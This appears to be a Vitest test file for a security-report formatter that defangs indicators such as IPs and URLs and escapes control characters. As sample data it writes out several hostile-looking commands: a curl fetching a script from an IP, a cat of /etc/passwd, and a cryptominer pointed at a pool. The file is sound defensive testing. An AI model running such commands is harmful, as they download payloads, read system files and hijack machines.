import { describe, expect, it } from 'vitest';
import { code, count, type Datum, hash, id, indicator, phrase, text, time } from '../../../src/extension/core/model/phrase.ts';
import { datumText } from '../../../src/extension/core/report/datumText.ts';
import { plainPhrase } from '../../../src/extension/core/report/plainText.ts';
import { hostile } from './hostile.ts';

describe('what is shown of a datum', () => {
  it.each([
    [time(Date.UTC(2026, 5, 10, 9, 12, 43, 210)), '2026-06-10 09:12:43Z'],
    [{ kind: 'time', text: 'yesterday' } satisfies Datum, 'yesterday'],
    [count(3112), '3,112'],
    [count(999), '999'],
    [indicator('198.51.100.23'), '198[.]51[.]100[.]23'],
    [indicator('pool.example:3333'), 'pool[.]example:3333'],
    [indicator('a@evil.example'), 'a[@]evil[.]example'],
    [indicator('https://evil.example/a.b?c=d.e'), 'hxxps://evil[.]example/a.b?c=d.e'],
    [indicator('2001:db8::1'), '2001:db8::1'],
    [code('curl http://198.51.100.23/i.sh'), 'curl hxxp://198[.]51[.]100[.]23/i.sh'],
    [code('cat FILE:///etc/passwd'), 'cat FILE[:]///etc/passwd'],
    [code('kdevtmpfsi -o pool.example:3333'), 'kdevtmpfsi -o pool[.]example:3333'],
    [code('registry.example/shop/storefront:4.2.1'), 'registry.example/shop/storefront:4.2.1'],
    [code('registry.example:5000/shop'), 'registry.example:5000/shop'],
    [code('java -jar catalina.jar'), 'java -jar catalina.jar'],
    [code('openssl-1.2.3.4.5'), 'openssl-1.2.3.4.5'],
    [text('seen from 198.51.100.23.'), 'seen from 198[.]51[.]100[.]23.'],
    [hash('6F'.repeat(32)), '6F'.repeat(32)],
    [id('AKIAIOSFODNN7EXAMPLE'), 'AKIAIOSFODNN7EXAMPLE'],
    [text('abc\u202Egnp'), 'abc⟨U+202E⟩gnp'],
    [code('a\nb'), 'a␊b'],
  ])('shows %j as %s', (datum, expected) => {
    expect(datumText(datum)).toBe(expected);
  });

  it('shortens long text in the middle, between characters, and says by how much', () => {
    const shown = datumText(code(`start${'😀'.repeat(50_000)}end`));
    expect(shown).toMatch(/^start(😀)+ … \(99,\d{3} more\) … (😀)+end$/u);
    expect(shown.length).toBeLessThanOrEqual(240);
  });

  it('takes no noticeable time for 100 kB of hostile text', () => {
    const began = performance.now();
    for (const value of hostile) datumText(code(value));
    expect(performance.now() - began).toBeLessThan(2000);
  });
});

describe('plain text', () => {
  it('[V-20] holds no control sequence, line break or notification link, whatever the data', () => {
    for (const value of hostile) {
      const shown = plainPhrase(phrase`${text(value)} and ${code(value)}`);
      expect(shown).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u);
      expect(shown).not.toMatch(/\]\(/);
    }
  });

  it('takes colours and terminal links out', () => {
    const esc = String.fromCharCode(27);
    expect(plainPhrase([text(`${esc}[31mred${esc}[0m`)])).toBe('red');
  });
});
